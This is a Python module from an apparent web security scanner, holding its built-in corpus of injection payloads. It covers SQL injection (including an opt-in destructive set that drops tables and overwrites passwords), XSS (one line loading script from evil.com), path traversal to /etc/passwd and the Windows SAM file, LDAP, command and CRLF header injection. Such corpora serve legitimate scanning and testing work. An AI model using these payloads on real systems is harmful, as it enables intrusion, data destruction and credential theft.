"""Built-in payload corpus, grouped by category.

Order inside each category is the declaration order and never changes, so
probe runs iterate payloads reproducibly. Everything is a tuple; consumers
concatenate, never mutate.
"""

from typing import Dict, Iterable, List, Tuple

from secprobe.core.models import Payload, PayloadCategory
from secprobe.parsers.payloads import load_payload_file

C = PayloadCategory

_RAW: Dict[PayloadCategory, Tuple[str, ...]] = {
    # ── SQL injection ──────────────────────────────────────────
    C.SQLI_BASIC: (
        "' OR '1'='1",
        "' OR '1'='1'--",
        "' OR '1'='1'/*",
        "' OR 1=1--",
        "' OR 1=1#",
        "admin'--",
        "admin' #",
        "admin'/*",
        "' OR 'x'='x",
        "') OR ('1'='1",
        "') OR ('1'='1'--",
    ),
    C.SQLI_UNION: (
        "' UNION SELECT NULL--",
        "' UNION SELECT NULL, NULL--",
        "' UNION SELECT NULL, NULL, NULL--",
        "' UNION SELECT username, password FROM users--",
        "' UNION ALL SELECT NULL--",
        "' UNION SELECT * FROM users--",
    ),
    C.SQLI_ERROR: (
        "' AND 1=CONVERT(int, @@version)--",
        "' AND 1=1 AND '1'='1",
        "' AND 1=2 AND '1'='1",
        "' AND SUBSTRING(username,1,1)='a'--",
        "'; WAITFOR DELAY '0:0:5'--",
        "'; SELECT SLEEP(5)--",
    ),
    # never part of the default sets; opt in explicitly
    C.SQLI_DESTRUCTIVE: (
        "'; DROP TABLE users;--",
        "'; DELETE FROM users;--",
        "'; UPDATE users SET password='hacked';--",
        "'; TRUNCATE TABLE users;--",
    ),
    # each requests a 5 s delay (REQUESTED_DELAY_MS)
    C.SQLI_TIME: (
        "'; WAITFOR DELAY '0:0:5'--",
        "'; SELECT SLEEP(5)--",
        "' OR SLEEP(5)--",
    ),

    # ── XSS ────────────────────────────────────────────────────
    C.XSS_BASIC: (
        "<script>alert('XSS')</script>",
        "<script>alert(document.cookie)</script>",
        "<script>alert(document.domain)</script>",
        "<ScRiPt>alert('XSS')</ScRiPt>",
        "<script src='http://evil.com/xss.js'></script>",
    ),
    C.XSS_EVENT: (
        "<img src=x onerror=alert('XSS')>",
        "<img src=x onerror='alert(1)'>",
        "<svg onload=alert('XSS')>",
        "<body onload=alert('XSS')>",
        "<input onfocus=alert('XSS') autofocus>",
        "<marquee onstart=alert('XSS')>",
        "<video><source onerror=alert('XSS')>",
        "<audio src=x onerror=alert('XSS')>",
        "<details open ontoggle=alert('XSS')>",
    ),
    C.XSS_PROTOCOL: (
        "javascript:alert('XSS')",
        "javascript:alert(document.cookie)",
        "<a href=\"javascript:alert(1)\">Click</a>",
        "<iframe src=\"javascript:alert(1)\">",
    ),
    C.XSS_ENCODED: (
        "%3Cscript%3Ealert('XSS')%3C/script%3E",
        "&#60;script&#62;alert('XSS')&#60;/script&#62;",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "\\x3cscript\\x3ealert('XSS')\\x3c/script\\x3e",
    ),
    C.XSS_DOM: (
        "#<script>alert('XSS')</script>",
        "?search=<script>alert('XSS')</script>",
        "<img src=1 href=1 onerror='javascript:alert(1)'>",
    ),
    C.XSS_POLYGLOT: (
        "jaVasCript:/*-/*`/*\\`/*`/*\"/**/(/* */oNcLiCk=alert() )//",
        "\"><img src=x onerror=alert(1)//>",
        "'-alert(1)-'",
        "javascript:/*-->%0A%0D<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<<script>script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</src</script>",
        "<script x>alert(1)</script y>",
        "<img/ src=x onerror=alert(1)>",
        "<body/onload=alert(1)>",
        "<svg/ onload=alert(1)//",
        "<%00script>alert(1)</script>",
        "<script>\\u0061lert(1)</script>",
    ),

    # ── other injection families ───────────────────────────────
    C.PATH_TRAVERSAL: (
        "../../etc/passwd",
        "..\\..\\windows\\system32\\config\\sam",
        "..../..../..../etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc/passwd",
        "/etc/passwd%00.jpg",
    ),
    C.LDAP: (
        "*",
        "*)(&",
        "*)(uid=*)|(uid=*",
        "admin)(&)",
        "admin)(|(password=*))",
    ),
    C.COMMAND_INJECTION: (
        "; ls -la",
        "| ls -la",
        "& dir",
        "| cat /etc/passwd",
        "`id`",
        "$(id)",
        "; ping -c 3 localhost",
    ),
    C.HEADER_INJECTION: (
        "test\r\nX-Injected: header",
        "test%0d%0aX-Injected:%20header",
        "test\r\nSet-Cookie: injected=true",
    ),
    C.CUSTOM: (),
}

_CORPUS: Dict[PayloadCategory, Tuple[Payload, ...]] = {
    cat: tuple(Payload(cat, v) for v in values) for cat, values in _RAW.items()
}

SQLI_DEFAULT = (C.SQLI_BASIC, C.SQLI_UNION, C.SQLI_ERROR)
XSS_DEFAULT = (C.XSS_BASIC, C.XSS_EVENT, C.XSS_PROTOCOL, C.XSS_ENCODED, C.XSS_DOM)


def all_payloads(category: PayloadCategory) -> Tuple[Payload, ...]:
    """Every built-in payload of *category*, in declaration order."""
    return _CORPUS.get(category, ())


def payloads_for(*categories: PayloadCategory) -> Tuple[Payload, ...]:
    out: List[Payload] = []
    for cat in categories:
        out.extend(all_payloads(cat))
    return tuple(out)


def sql_injection_payloads() -> Tuple[Payload, ...]:
    """Basic + UNION + error-based. Destructive payloads are never included."""
    return payloads_for(*SQLI_DEFAULT)


def xss_payloads() -> Tuple[Payload, ...]:
    return payloads_for(*XSS_DEFAULT)


def with_custom(categories: Iterable[PayloadCategory], paths: Iterable[str] = (),
                logger=None) -> Tuple[Payload, ...]:
    """Built-in payloads of *categories* followed by any payload files."""
    out = list(payloads_for(*categories))
    for path in paths:
        out.extend(load_payload_file(path, logger=logger))
    return tuple(out)
